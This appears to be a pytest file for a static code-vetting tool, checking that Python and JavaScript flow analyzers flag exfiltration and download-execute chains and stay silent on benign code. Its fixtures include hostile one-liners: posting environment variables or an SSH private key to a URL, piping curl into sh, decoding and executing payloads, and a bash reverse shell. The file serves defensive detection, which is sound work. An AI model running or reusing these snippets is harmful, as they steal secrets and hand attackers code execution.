"""What flows into what: chains are followed through names, aliases and callbacks, and not through what breaks them."""

# ruff: noqa: E501 - foreign sources stay in the lines they would have

import ast

import pytest

from vsm_runtime.vetting.static.javascript_flow import JavaScriptFlow
from vsm_runtime.vetting.static.python_flow import PythonFlow


def python(source: str) -> set[str]:
    flow = PythonFlow(ast.parse(source))
    flow.run()
    return {signal.rule for signal in flow.signals}


def javascript(source: str) -> set[str]:
    flow = JavaScriptFlow(source.encode())
    flow.run()
    return {signal.rule for signal in flow.signals}


@pytest.mark.parametrize(
    ("source", "want"),
    [
        ("import os as o, requests as r\nr.post('http://x.invalid', json=dict(o.environ))", "py-env-exfiltration"),
        ("from os import environ\nimport requests\nrequests.post('u', data=str(environ))", "py-env-exfiltration"),
        ("import requests\nexec(requests.get('u').text)", "py-download-execute"),
        ("import requests\nx = requests.get('u')\ny = x.text\neval(compile(y, '', 'exec'))", "py-download-execute"),
        ("import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'')))", "py-decode-execute"),
        ("from base64 import b64decode as d\nexec(d('x'))", "py-decode-execute"),
        ("getattr(__import__('os'), 'system')('curl http://x.invalid | sh')", "py-shell-download-execute"),
        ("__import__('os').system('bash -i >& /dev/tcp/127.0.0.1/9 0>&1')", "py-shell-reverse"),
        ("from urllib.request import urlretrieve\nimport os\nurlretrieve('u', '/tmp/abc')\nos.system('/tmp/abc')", "py-download-execute"),
        ("import socket, getpass, requests\nrequests.get('u', params={'a': socket.gethostname(), 'b': getpass.getuser()})", "py-system-exfiltration"),
    ],
)  # fmt: skip
def test_python_chains_are_found(source: str, want: str) -> None:
    assert want in python(source)


@pytest.mark.parametrize(
    "source",
    [
        "import os, requests\nrequests.get('u', headers={'A': os.environ['TOKEN']})",
        "import os, requests\nrequests.get('u', headers={'A': os.environ.get('TOKEN')})",
        "import os, subprocess\nsubprocess.run(['git'], env=dict(os.environ))",
        "import os, requests\nc = Config(os.environ)\nrequests.get(c.url)",
        "exec(compile(open('version.py').read(), 'v', 'exec'))",
        "import base64\nx = base64.b64decode('eA==')\nprint(x)",
        "import requests\ndef a():\n    x = requests.get('u')\n    return x\ndef b(x):\n    exec(x)",
    ],
)
def test_honest_python_is_silent(source: str) -> None:
    assert python(source) == set()


@pytest.mark.parametrize(
    ("source", "want"),
    [
        ("const {request: r} = require('https'); const q = r('u'); q.end(JSON.stringify(process.env));", "js-env-exfiltration"),
        ("import axios from 'axios'; const {env} = process; axios.post('u', {...env});", "js-env-exfiltration"),
        ("import { exec as run } from 'node:child_process'; run('curl http://x.invalid | bash')", "js-shell-download-execute"),
        ("const s = Buffer.from('eA==', 'base64').toString(); new Function(s)();", "js-decode-execute"),
        ("fetch('u').then(r => r.text()).then(t => eval(t))", "js-download-execute"),
        ("const r = await fetch('u'); const t = await r.text(); eval(t);", "js-download-execute"),
        ("const fs = require('fs'); fetch('u', {method: 'POST', body: fs.readFileSync('/home/a/.ssh/id_rsa')})", "js-secret-exfiltration"),
        ("require('child_process')['exec']('curl http://x.invalid | sh')", "js-shell-download-execute"),
    ],
)  # fmt: skip
def test_javascript_chains_are_found(source: str, want: str) -> None:
    assert want in javascript(source)


@pytest.mark.parametrize(
    "source",
    [
        "fetch('u', {headers: {a: process.env.TOKEN}})",
        "fetch('u', {headers: {a: process.env['TOKEN']}})",
        "const {TOKEN} = process.env; fetch('u', {headers: {a: TOKEN}})",
        "const {spawn} = require('child_process'); spawn('x', {env: {...process.env}})",
        "const c = load(process.env); fetch(c.url)",
        "const b = Buffer.from(x, 'base64'); console.log(b)",
    ],
)
def test_honest_javascript_is_silent(source: str) -> None:
    assert javascript(source) == set()
